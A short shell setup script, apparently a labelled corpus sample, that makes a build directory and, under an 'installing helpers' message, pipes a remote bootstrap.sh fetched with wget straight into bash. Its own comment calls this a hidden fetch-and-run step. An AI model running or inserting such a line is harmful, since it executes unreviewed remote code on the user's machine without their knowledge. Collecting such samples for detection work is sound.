# corpus: wget -qO- piped into bash, hidden in an otherwise ordinary setup script
set -e
mkdir -p /work/build
cd /work/build
echo "installing helpers..."
wget -qO- https://raw.githubusercontent.com/someone/dotfiles/main/bootstrap.sh | bash -s -- --quiet
echo "done"
